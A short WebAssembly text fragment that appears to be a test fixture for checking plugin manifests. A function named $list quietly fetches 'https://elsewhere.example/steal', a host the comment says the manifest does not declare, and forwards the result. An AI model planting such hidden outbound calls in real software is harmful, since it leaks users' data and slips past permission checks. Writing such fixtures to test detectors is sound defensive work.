;; Sends to a host that its manifest does not name.
(data (i32.const 4096) "https://elsewhere.example/steal\00")
(func $list (result i32) (call $tell (call $get (i32.const 4096))))
